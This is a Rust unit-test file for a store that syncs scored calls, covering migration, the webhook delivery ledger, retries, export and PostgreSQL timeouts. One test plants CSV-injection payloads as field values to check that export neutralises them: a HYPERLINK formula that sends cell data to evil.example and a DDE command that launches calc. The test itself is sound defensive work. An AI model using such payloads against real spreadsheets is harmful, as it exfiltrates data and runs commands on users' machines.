//! Unit tests of the store: opening and migrating, storing calls (new, changed, unchanged),
//! how a call reached the store, the ledger, failures, and export.

use serde_json::{Value, json};
use svc_contract::{CallScored, CallSource};

#[cfg(feature = "postgres")]
use super::StoreLocation;
use super::calls::{Delivery, Stored, Writer};
use super::deliveries::NewDelivery;
use super::export::ExportFormat;
use super::{SCHEMA_VERSION, Store, StoreError};
use svc_client::raw::{self, RawCallDetail};
use svc_client::{RawCallRow, types::CallRow};

fn detail_json(id: &str, source: &str, scored_at: &str, overall: f64) -> Value {
    json!({
        "id": id, "source": source, "agentId": "svc_agent_1", "agencyId": "svc_agency_1",
        "platformAgentId": "rep-1", "platformAgencyId": "ag-1", "externalUserId": null,
        "externalAgencyId": null, "drillKey": null,
        "startedAt": "2026-03-01T10:00:00.000Z", "endedAt": "2026-03-01T10:05:00.000Z",
        "durationSec": 300, "scoredAt": scored_at, "status": "scored",
        "transcript": [{"role": "agent", "content": "Hello"}],
        "score": {"overallScore": overall, "summary": "s", "feedback": "f", "newKey": [1, 2]},
        "audioUrl": null, "audioUrlExpiresAt": null, "waveform": null,
        "createdAt": "2026-03-01T10:05:00.000Z", "updatedAt": scored_at
    })
}

fn detail(value: &Value) -> RawCallDetail {
    raw::detail(value.to_string().as_bytes()).expect("a call detail")
}

fn row(value: &Value) -> RawCallRow {
    let mut row = value.clone();
    for key in [
        "status",
        "transcript",
        "score",
        "audioUrl",
        "audioUrlExpiresAt",
        "waveform",
    ] {
        row.as_object_mut().expect("object").remove(key);
    }
    RawCallRow {
        row: serde_json::from_value::<CallRow>(row.clone()).expect("a row"),
        json: row.to_string(),
    }
}

fn writer(missed_before_ms: i64, ledger_since_ms: Option<i64>) -> Writer {
    Writer {
        by: "reconcile",
        run_id: Some(1),
        now: "2026-03-02T00:00:00.000Z".into(),
        ledger_since_ms,
        missed_before_ms,
    }
}

fn store() -> (tempfile::TempDir, Store) {
    let dir = tempfile::tempdir().expect("temp dir");
    let store = Store::open_or_create(dir.path().join("store.db")).expect("store");
    (dir, store)
}

/// Runs `check` on a fresh store of each backend: a file, and a fresh schema of the test
/// PostgreSQL (skipped with a loud line when `SVC_TEST_POSTGRES_URL` is not set).
fn on_each_backend(test: &str, check: impl Fn(&Store)) {
    let (_dir, store) = store();
    check(&store);
    #[cfg(feature = "postgres")]
    on_postgres(test, check);
    #[cfg(not(feature = "postgres"))]
    let _ = test;
}

#[cfg(feature = "postgres")]
fn on_postgres(test: &str, check: impl Fn(&Store)) {
    let runtime = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .expect("a runtime");
    if let Some(url) = runtime.block_on(svc_test_support::postgres::fresh_schema_url(test)) {
        let location = StoreLocation::parse(&url).expect("a location");
        check(&Store::open_or_create(location).expect("a PostgreSQL store"));
    }
}

/// The text columns of the one row of `sql`.
fn texts(store: &Store, sql: &str) -> Vec<String> {
    store
        .read(|db| {
            let row = db.query_one(sql, &[])?;
            (0..row.0.len()).map(|i| row.text(i)).collect()
        })
        .expect("one row")
}

/// Unix ms of 2026-03-01T10:06:00Z, a minute after the test calls are scored.
const AFTER_SCORING: i64 = 1_772_359_560_000;

#[test]
fn a_new_store_has_the_latest_schema_and_reopens() {
    let (dir, store) = store();
    assert_eq!(store.schema_version().expect("version"), SCHEMA_VERSION);
    drop(store);
    let again = Store::open(dir.path().join("store.db")).expect("reopens");
    assert_eq!(again.schema_version().expect("version"), SCHEMA_VERSION);
}

#[test]
fn an_older_store_is_migrated_in_place_and_keeps_its_rows() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("old.db");
    Store::create_at_version(&path, 1).expect("a version-1 store");
    {
        let conn = rusqlite::Connection::open(&path).expect("open");
        conn.execute(
            "INSERT INTO sync_state (source, watermark) VALUES ('roleplay', '2026-01-01T00:00:00.000Z')",
            [],
        )
        .expect("a row of version 1");
    }
    let store = Store::open(&path).expect("migrates");
    assert_eq!(store.schema_version().expect("version"), SCHEMA_VERSION);
    let state = store.sync_state("roleplay").expect("state");
    assert_eq!(state.watermark.as_deref(), Some("2026-01-01T00:00:00.000Z"));
    let failures = store
        .read(|db| {
            db.query_one("SELECT COUNT(*) FROM call_failures", &[])?
                .count(0)
        })
        .expect("the table of version 2 exists");
    assert_eq!(failures, 0);
}

#[test]
fn a_store_of_a_newer_svc_cli_is_refused() {
    let (dir, store) = store();
    store
        .write(|db| {
            db.execute(
                "UPDATE store_meta SET value = '99' WHERE key = 'schema_version'",
                &[],
            )
        })
        .expect("bump");
    drop(store);
    match Store::open(dir.path().join("store.db")) {
        Err(StoreError::TooNew { found: 99, .. }) => {}
        other => panic!("expected TooNew, got {other:?}"),
    }
}

#[test]
fn files_that_are_not_stores_are_refused_without_being_changed() {
    let dir = tempfile::tempdir().expect("temp dir");
    let text = dir.path().join("notes.txt");
    std::fs::write(&text, "hello, not a database\n").expect("write");
    assert!(matches!(
        Store::open(&text),
        Err(StoreError::NotAStore { .. })
    ));
    assert_eq!(
        std::fs::read_to_string(&text).expect("read"),
        "hello, not a database\n"
    );

    let other = dir.path().join("other.db");
    rusqlite::Connection::open(&other)
        .and_then(|c| c.execute("CREATE TABLE accounts (id INTEGER)", []))
        .expect("another program's database");
    let refused = Store::open_or_create(&other);
    assert!(
        matches!(&refused, Err(StoreError::NotAStore { reason, .. }) if reason.contains("accounts")),
        "{refused:?}"
    );
    assert!(matches!(
        Store::open_or_create(dir.path().join("missing/store.db")),
        Err(StoreError::MissingDirectory { .. })
    ));
    assert!(matches!(
        Store::open(dir.path().join("absent.db")),
        Err(StoreError::NotFound(_))
    ));
}

#[test]
fn a_call_is_stored_once_then_unchanged_then_changed_with_its_change_logged() {
    on_each_backend(
        "a_call_is_stored_once_then_unchanged_then_changed_with_its_change_logged",
        |store| {
            let first = detail_json("svc_call_1", "real_call", "2026-03-01T10:05:00.000Z", 70.0);
            let stored = store
                .store_calls(&[(Some(row(&first)), detail(&first))], &writer(0, None))
                .expect("store");
            assert_eq!(stored, [Stored::New(Delivery::Backfill)]);
            assert_eq!(
                store.call_detail("svc_call_1").expect("read").as_deref(),
                Some(detail(&first).json.as_str()),
                "the detail is kept as the service sent it"
            );

            let again = store
                .store_calls(&[(None, detail(&first))], &writer(0, None))
                .expect("store");
            assert_eq!(again, [Stored::Unchanged]);

            let moved = detail_json("svc_call_1", "real_call", "2026-03-05T09:00:00.000Z", 85.0);
            let changed = store
                .store_calls(&[(Some(row(&moved)), detail(&moved))], &writer(0, None))
                .expect("store");
            assert_eq!(changed, [Stored::Changed]);
            let logged = texts(
                store,
                "SELECT before_json, after_json FROM score_changes WHERE call_id = 'svc_call_1'",
            );
            let (before, after) = (logged[0].clone(), logged[1].clone());
            let (before, after): (Value, Value) = (
                serde_json::from_str(&before).expect("json"),
                serde_json::from_str(&after).expect("json"),
            );
            assert_eq!(before["score"]["overallScore"], json!(70.0));
            assert_eq!(after["score"]["overallScore"], json!(85.0));
            assert_eq!(after["scoredAt"], json!("2026-03-05T09:00:00.000Z"));
            assert_eq!(
                before["score"]["newKey"],
                json!([1, 2]),
                "unknown score keys are kept"
            );

            // A detail read before the stored one (a late webhook worker's) does not bring the
            // older version back.
            let stale = store
                .store_calls(&[(None, detail(&first))], &writer(0, None))
                .expect("store");
            assert_eq!(stale, [Stored::Unchanged]);
            assert_eq!(
                store.call_detail("svc_call_1").expect("read").as_deref(),
                Some(detail(&moved).json.as_str()),
                "the newer version stays"
            );
            assert_eq!(
                texts(store, "SELECT CAST(COUNT(*) AS TEXT) FROM score_changes"),
                ["1"],
                "no change logged"
            );
        },
    );
}

fn event(call_id: &str, success: bool) -> CallScored {
    let event = CallScored::scored(
        call_id,
        CallSource::Roleplay,
        "svc_agent_1",
        "svc_agency_1",
        "2026-03-01T10:05:30.000Z",
        "req_1",
    );
    if success {
        event
    } else {
        event.not_scored(
            svc_contract::FailureReason::ScoringIncomplete,
            "rep never spoke",
        )
    }
}

fn record(store: &Store, webhook_id: &str, event: &CallScored, verified_at: &str) -> bool {
    let body = serde_json::to_vec(event).expect("body");
    store
        .record_delivery(&NewDelivery {
            webhook_id,
            event,
            body: &body,
            verified_at,
        })
        .expect("record")
}

#[test]
fn a_delivery_is_recorded_once_per_webhook_id_and_starts_the_ledger() {
    on_each_backend(
        "a_delivery_is_recorded_once_per_webhook_id_and_starts_the_ledger",
        |store| {
            assert_eq!(store.ledger_since_ms().expect("since"), None);
            let scored = event("svc_call_1", true);
            assert!(record(store, "wh_1", &scored, "2026-03-01T10:05:31.000Z"));
            assert!(
                !record(store, "wh_1", &scored, "2026-03-01T10:10:31.000Z"),
                "a duplicate"
            );
            assert_eq!(store.delivery_count("wh_1").expect("count"), 1);
            assert_eq!(
                store.ledger_since_ms().expect("since"),
                crate::time::ms(Some("2026-03-01T10:05:31.000Z"))
            );
            let failed = event("svc_call_2", false);
            assert!(record(store, "wh_2", &failed, "2026-03-01T11:00:00.000Z"));
            let kept = texts(
                store,
                "SELECT reason, reason_message FROM deliveries WHERE webhook_id = 'wh_2'",
            );
            let (reason, message) = (kept[0].clone(), kept[1].clone());
            assert_eq!(
                (reason.as_str(), message.as_str()),
                ("SCORING_INCOMPLETE", "rep never spoke")
            );
        },
    );
}

#[test]
fn how_a_call_reached_the_store_follows_the_ledger_and_the_grace_period() {
    on_each_backend(
        "how_a_call_reached_the_store_follows_the_ledger_and_the_grace_period",
        |store| {
            // The ledger started before the calls were scored (10:05).
            let since = crate::time::ms(Some("2026-03-01T09:00:00.000Z"));
            let delivered = detail_json("svc_call_d", "roleplay", "2026-03-01T10:05:00.000Z", 70.0);
            record(
                store,
                "wh_d",
                &event("svc_call_d", true),
                "2026-03-01T10:05:31.000Z",
            );
            let missed = detail_json("svc_call_m", "roleplay", "2026-03-01T10:05:00.000Z", 70.0);
            let fresh = detail_json("svc_call_f", "roleplay", "2026-03-01T10:05:00.000Z", 70.0);
            let old = detail_json("svc_call_o", "roleplay", "2026-03-01T08:00:00.000Z", 70.0);
            let stored = store
                .store_calls(
                    &[
                        (None, detail(&delivered)),
                        (None, detail(&missed)),
                        (None, detail(&old)),
                    ],
                    &writer(AFTER_SCORING, since),
                )
                .expect("store");
            assert_eq!(
                stored,
                [
                    Stored::New(Delivery::Webhook),
                    Stored::New(Delivery::Recovered),
                    Stored::New(Delivery::Backfill),
                ]
            );
            // Scored after the grace cutoff: the webhook may still come.
            let stored = store
                .store_calls(
                    &[(None, detail(&fresh))],
                    &writer(AFTER_SCORING - 120_000, since),
                )
                .expect("store");
            assert_eq!(stored, [Stored::New(Delivery::Awaiting)]);
            // Nothing arrives. A run over the other source leaves it, as it would not report it.
            assert!(
                store
                    .settle_awaiting(AFTER_SCORING, 2, "x", &["real_call"])
                    .expect("settle")
                    .is_empty(),
                "left for a run over its own source"
            );
            // A later run over its source settles it as recovered.
            let recovered = store
                .settle_awaiting(AFTER_SCORING, 2, "2026-03-01T11:00:00.000Z", &["roleplay"])
                .expect("settle");
            assert_eq!(
                recovered,
                [("svc_call_f".to_owned(), "roleplay".to_owned())]
            );
            assert!(
                store
                    .settle_awaiting(AFTER_SCORING, 3, "x", &["roleplay"])
                    .expect("settle")
                    .is_empty(),
                "settled once"
            );
        },
    );
}

#[test]
fn a_webhook_arriving_in_the_grace_period_marks_the_call_delivered() {
    on_each_backend(
        "a_webhook_arriving_in_the_grace_period_marks_the_call_delivered",
        |store| {
            let since = Some(0);
            let fresh = detail_json("svc_call_f", "roleplay", "2026-03-01T10:05:00.000Z", 70.0);
            store
                .store_calls(&[(None, detail(&fresh))], &writer(0, since))
                .expect("store");
            record(
                store,
                "wh_f",
                &event("svc_call_f", true),
                "2026-03-01T10:06:00.000Z",
            );
            assert!(
                store
                    .settle_awaiting(AFTER_SCORING, 2, "x", &["roleplay"])
                    .expect("settle")
                    .is_empty(),
                "delivered, not recovered"
            );
            let delivery =
                texts(store, "SELECT delivery FROM calls WHERE id = 'svc_call_f'").remove(0);
            assert_eq!(delivery, "webhook");
        },
    );
}

#[test]
fn a_failed_call_is_retried_until_it_is_stored_or_has_failed_too_often() {
    on_each_backend(
        "a_failed_call_is_retried_until_it_is_stored_or_has_failed_too_often",
        |store| {
            let call = detail_json("svc_call_x", "real_call", "2026-03-01T10:05:00.000Z", 70.0);
            let listed = row(&call);
            for run in 1..=2 {
                store
                    .record_failure(&listed, "CALL_NOT_FOUND (HTTP 404)", Some(404), run, "now")
                    .expect("record");
            }
            let retry = store
                .failures_to_retry(&CallSource::RealCall, 5, 3)
                .expect("retry");
            assert_eq!(retry.len(), 1);
            assert_eq!(retry[0].json, listed.json, "the row is kept as listed");
            assert!(
                store
                    .failures_to_retry(&CallSource::RealCall, 5, 2)
                    .expect("retry")
                    .is_empty(),
                "the run that recorded the failure does not read the call again"
            );
            assert!(
                store
                    .failures_to_retry(&CallSource::RealCall, 2, 3)
                    .expect("retry")
                    .is_empty()
            );
            store
                .store_calls(&[(Some(listed), detail(&call))], &writer(0, None))
                .expect("store");
            assert!(
                store
                    .failures_to_retry(&CallSource::RealCall, 5, 3)
                    .expect("retry")
                    .is_empty(),
                "storing the call resolves its failure"
            );
        },
    );
}

#[test]
fn export_writes_details_as_stored_or_a_flat_csv() {
    on_each_backend("export_writes_details_as_stored_or_a_flat_csv", |store| {
        let a = detail_json("svc_call_a", "roleplay", "2026-03-01T10:05:00.000Z", 70.5);
        let b = detail_json("svc_call_b", "real_call", "2026-03-01T10:05:00.000Z", 90.0);
        store
            .store_calls(
                &[(Some(row(&a)), detail(&a)), (None, detail(&b))],
                &writer(0, None),
            )
            .expect("store");
        let mut jsonl = Vec::new();
        let n = store
            .export(None, None, ExportFormat::Jsonl, &mut jsonl)
            .expect("export");
        assert_eq!(n, 2);
        let text = String::from_utf8(jsonl).expect("utf-8");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines, [detail(&a).json.as_str(), detail(&b).json.as_str()]);

        let mut csv = Vec::new();
        store
            .export(Some("real_call"), None, ExportFormat::Csv, &mut csv)
            .expect("export");
        let text = String::from_utf8(csv).expect("utf-8");
        let mut lines = text.lines();
        assert_eq!(
            lines.next(),
            Some(super::export::CSV_HEADER.join(",").as_str())
        );
        let line = lines.next().expect("one call");
        assert!(
            line.starts_with("svc_call_b,real_call,svc_agent_1,svc_agency_1,rep-1,ag-1,"),
            "{line}"
        );
        assert!(
            line.ends_with(",300,2026-03-01T10:05:00.000Z,2026-03-01T10:05:00.000Z,90.0,"),
            "{line}"
        );
        assert_eq!(lines.next(), None);

        let mut since = Vec::new();
        let later = crate::time::ms(Some("2026-03-02T00:00:00Z"));
        let n = store
            .export(None, later, ExportFormat::Jsonl, &mut since)
            .expect("export");
        assert_eq!(
            (n, since.len()),
            (0, 0),
            "--since filters on the listing time"
        );
    });
}

#[cfg(unix)]
#[test]
fn a_new_store_file_is_readable_and_writable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let (dir, store) = store();
    store
        .store_calls(
            &[(
                None,
                detail(&detail_json(
                    "svc_call_m",
                    "roleplay",
                    "2026-03-01T10:05:00.000Z",
                    1.0,
                )),
            )],
            &writer(0, None),
        )
        .expect("store");
    for name in ["store.db", "store.db-wal", "store.db-shm"] {
        let mode = std::fs::metadata(dir.path().join(name))
            .expect(name)
            .permissions()
            .mode();
        assert_eq!(mode & 0o777, 0o600, "{name} has mode {mode:o}");
    }
}

#[test]
fn a_csv_export_neutralises_formulas_and_json_lines_keep_them_exactly() {
    let (_dir, store) = store();
    let mut call = detail_json("svc_call_f", "real_call", "2026-03-01T10:05:00.000Z", 80.0);
    call["platformAgentId"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")");
    call["externalUserId"] = json!("+cmd|' /C calc'!A0");
    call["durationSec"] = json!(-5);
    store
        .store_calls(&[(Some(row(&call)), detail(&call))], &writer(0, None))
        .expect("store");
    let mut csv = Vec::new();
    store
        .export(None, None, ExportFormat::Csv, &mut csv)
        .expect("export");
    let mut reader = csv::Reader::from_reader(csv.as_slice());
    let record = reader
        .records()
        .next()
        .expect("one line")
        .expect("a record");
    assert_eq!(
        &record[4], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")",
        "a formula becomes text"
    );
    assert_eq!(&record[6], "'+cmd|' /C calc'!A0");
    assert_eq!(&record[11], "-5", "a negative number stays a number");
    let mut jsonl = Vec::new();
    store
        .export(None, None, ExportFormat::Jsonl, &mut jsonl)
        .expect("export");
    let line: Value = serde_json::from_slice(&jsonl).expect("one JSON line");
    assert_eq!(line["platformAgentId"], call["platformAgentId"]);
    assert_eq!(line["externalUserId"], call["externalUserId"]);
}

#[test]
fn the_report_reads_calls_and_days_on_both_backends() {
    on_each_backend("the_report_reads_calls_and_days", |store| {
        let call = detail_json("svc_call_r", "roleplay", "2026-03-01T10:05:00.000Z", 64.0);
        store
            .store_calls(&[(Some(row(&call)), detail(&call))], &writer(0, None))
            .expect("store");
        assert!(record(
            store,
            "wh_r",
            &event("svc_call_r", true),
            "2026-03-01T10:05:31.000Z"
        ));
        let window = super::report_rows::ReportWindow::default();
        let mut calls = Vec::new();
        store
            .for_each_report_call(&window, &mut |call| calls.push(call))
            .expect("calls");
        assert_eq!(calls.len(), 1);
        assert_eq!(calls[0].overall_score, Some(64.0));
        assert_eq!(calls[0].source, "roleplay");
        let days = store.report_days(&window).expect("days");
        assert_eq!(days.len(), 1);
        assert_eq!(days[0].0, "2026-03-01");
        assert_eq!(days[0].1.scored_webhooks, 1);
    });
}

/// Issue 27: a PostgreSQL store whose database stops answering (a stalled network, a hung
/// server; here a proxy that stops forwarding answers on an open connection) gives up on the
/// statement within the answer timeout instead of waiting forever with the connection's lock
/// held, and works again on a fresh connection once the network is back.
#[cfg(feature = "postgres")]
#[test]
fn a_store_whose_database_stops_answering_gives_up_in_time_and_recovers_on_a_new_connection() {
    use std::time::{Duration, Instant};
    use svc_test_support::proxy::{Fault, Proxy};

    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("a runtime");
    let test = "store_stops_answering";
    let Some(url) = runtime.block_on(svc_test_support::postgres::fresh_schema_url(test)) else {
        return;
    };
    let proxy = runtime
        .block_on(Proxy::start(svc_test_support::postgres::upstream(&url)))
        .expect("proxy");
    let location = StoreLocation::parse(&svc_test_support::postgres::via_proxy(&url, proxy.addr()))
        .expect("a location")
        .with_answer_timeout(Duration::from_secs(1));
    let store = Store::open_or_create(location).expect("a PostgreSQL store");
    store.check_writable().expect("writable");

    proxy.set(Fault::StallAfter(0));
    // On a thread of its own, so that a store that waits forever fails the test.
    let (sender, outcome) = std::sync::mpsc::channel();
    let stalled = store.clone();
    std::thread::spawn(move || {
        let started = Instant::now();
        let result = stalled.check_writable();
        let _ = sender.send((result, started.elapsed()));
    });
    let (result, took) = outcome
        .recv_timeout(Duration::from_secs(20))
        .expect("the store gave up instead of waiting forever");
    assert!(
        matches!(result, Err(StoreError::Unavailable(_))),
        "{result:?}"
    );
    assert!(result.as_ref().is_err_and(StoreError::is_temporary));
    assert!(
        took < Duration::from_secs(3),
        "within the answer timeout: {took:?}"
    );
    assert!(proxy.stats().stalled >= 1);

    proxy.set(Fault::Pass);
    store
        .check_writable()
        .expect("writable again, on a new connection");
    assert!(proxy.stats().accepted >= 2, "{:?}", proxy.stats());
}

#[test]
fn a_delivered_call_and_its_delivery_are_recorded_together_and_count_as_delivered() {
    on_each_backend(
        "a_delivered_call_and_its_delivery_are_recorded_together_and_count_as_delivered",
        |store| {
            let value = detail_json("svc_call_1", "roleplay", "2026-03-01T10:05:30.000Z", 81.0);
            let scored = event("svc_call_1", true);
            let body = serde_json::to_vec(&scored).expect("body");
            let delivery = NewDelivery {
                webhook_id: "wh_1",
                event: &scored,
                body: &body,
                verified_at: "2026-03-01T10:05:31.000Z",
            };
            let webhook_writer = Writer {
                by: "webhook",
                run_id: None,
                now: "2026-03-01T10:05:32.000Z".into(),
                ledger_since_ms: None,
                missed_before_ms: i64::MIN,
            };
            let first = store
                .record_delivered_call(&delivery, &detail(&value), &webhook_writer)
                .expect("stored");
            assert_eq!(first, Stored::New(Delivery::Webhook));
            let again = store
                .record_delivered_call(&delivery, &detail(&value), &webhook_writer)
                .expect("handed over again");
            assert_eq!(again, Stored::Unchanged);
            assert_eq!(store.delivery_count("wh_1").expect("count"), 1);
            assert_eq!(
                texts(store, "SELECT delivery FROM calls WHERE id = 'svc_call_1'"),
                vec!["webhook".to_owned()]
            );
            // Reconcile listing it later finds it held.
            let later = store
                .store_calls(
                    &[(Some(row(&value)), detail(&value))],
                    &writer(AFTER_SCORING, Some(0)),
                )
                .expect("reconcile");
            assert_eq!(later, vec![Stored::Unchanged]);
        },
    );
}

/// A fresh PostgreSQL store (its own schema) and a runtime for async calls beside it; `None`
/// when no test server is set.
#[cfg(feature = "postgres")]
fn postgres_store(test: &str) -> Option<(tokio::runtime::Runtime, Store)> {
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .expect("a runtime");
    let url = runtime.block_on(svc_test_support::postgres::fresh_schema_url(test))?;
    let location = StoreLocation::parse(&url).expect("a location");
    let store = Store::open_or_create(location).expect("a PostgreSQL store");
    Some((runtime, store))
}

/// Issue 23: one PostgreSQL layer. The inbox `webhook serve` opens beside a PostgreSQL store
/// runs on the store's own pool of connections (one set of connections, one answer timeout),
/// not on a second pool: used one after the other, both are served by the same connection.
#[cfg(feature = "postgres")]
#[test]
fn the_inbox_beside_a_postgres_store_runs_on_the_stores_connections() {
    use super::inbox::StoreInbox;
    use svc_receiver::inbox::InboxPolicy;

    let Some((runtime, store)) =
        postgres_store("the_inbox_beside_a_postgres_store_runs_on_the_stores_connections")
    else {
        return;
    };
    let backend_pid = |store: &Store| {
        store
            .read(|db| {
                db.query_one("SELECT pg_backend_pid()::bigint", &[])?
                    .count(0)
            })
            .expect("the store's connection")
    };
    let store_pid = backend_pid(&store);
    let inbox = runtime
        .block_on(StoreInbox::open_beside(&store, InboxPolicy::default()))
        .expect("the inbox");
    let StoreInbox::Postgres(inbox) = inbox else {
        panic!("a PostgreSQL store's inbox is in PostgreSQL");
    };
    let inbox_pid: u64 = runtime.block_on(async {
        let conn = inbox.database().pool().get().await.expect("a connection");
        let row = conn
            .query_one("SELECT pg_backend_pid()::bigint", &[])
            .await
            .expect("pid");
        u64::try_from(row.get::<_, i64>(0)).expect("a pid")
    });
    assert_eq!(inbox_pid, store_pid, "one pool, one idle connection");
    assert_eq!(backend_pid(&store), store_pid);
    let StoreLocation::Postgres(url) = store.location() else {
        panic!("a PostgreSQL location");
    };
    assert_eq!(
        inbox.database().answer_timeout(),
        url.answer_timeout(),
        "the store's answer timeout"
    );
}

/// Issue 23: on PostgreSQL the store's transactions have connections of their own (its pool),
/// so a read in one thread is not held behind a long write transaction in another, as it was
/// on the single connection the store used to drive; and writers still follow each other.
#[cfg(feature = "postgres")]
#[test]
fn on_postgres_a_read_goes_on_while_another_thread_holds_a_write_transaction() {
    use std::sync::mpsc;
    use std::time::Duration;

    let Some((_runtime, store)) =
        postgres_store("on_postgres_a_read_goes_on_while_another_thread_holds_a_write")
    else {
        return;
    };
    let (started, write_started) = mpsc::channel();
    let (release, released) = mpsc::channel::<()>();
    let writer = store.clone();
    let write = std::thread::spawn(move || {
        writer.write(|db| {
            db.execute(
                "INSERT INTO sync_state (source, watermark) VALUES ('roleplay', 'held')",
                &[],
            )?;
            let _ = started.send(());
            let _ = released.recv_timeout(Duration::from_secs(20));
            Ok(())
        })
    });
    write_started
        .recv_timeout(Duration::from_secs(20))
        .expect("the write began");
    let (read_done, read_finished) = mpsc::channel();
    let reader = store.clone();
    std::thread::spawn(move || {
        let count = reader.read(|db| {
            db.query_one("SELECT COUNT(*) FROM sync_state", &[])?
                .count(0)
        });
        let _ = read_done.send(count);
    });
    let count = read_finished
        .recv_timeout(Duration::from_secs(5))
        .expect("the read was not held behind the write")
        .expect("read");
    assert_eq!(count, 0, "the uncommitted write is not seen");
    release.send(()).expect("release the write");
    write.join().expect("writer").expect("the write committed");
    assert_eq!(
        texts(
            &store,
            "SELECT watermark FROM sync_state WHERE source = 'roleplay'"
        ),
        vec!["held".to_owned()]
    );
}

/// The store's PostgreSQL methods block the calling thread; called many times in one poll of
/// a task on a Tokio worker (an embedder's async code calling it directly), they neither hang
/// nor spin once the task's cooperative budget is spent.
#[cfg(feature = "postgres")]
#[test]
fn on_postgres_many_store_calls_in_one_poll_of_a_tokio_task_all_finish() {
    use std::sync::mpsc;
    use std::time::Duration;

    let Some((_runtime, store)) = postgres_store("many_store_calls_in_one_poll") else {
        return;
    };
    let (done, finished) = mpsc::channel();
    std::thread::spawn(move || {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(1)
            .enable_all()
            .build()
            .expect("a runtime");
        let calls = runtime.block_on(runtime.spawn(async move {
            let mut total = 0;
            for _ in 0..300 {
                total += store.read(|db| db.query_one("SELECT 1::bigint", &[])?.count(0))?;
            }
            Ok::<_, StoreError>(total)
        }));
        let _ = done.send(calls);
    });
    let total = finished
        .recv_timeout(Duration::from_secs(120))
        .expect("every call finished")
        .expect("the task")
        .expect("the reads");
    assert_eq!(total, 300);
}
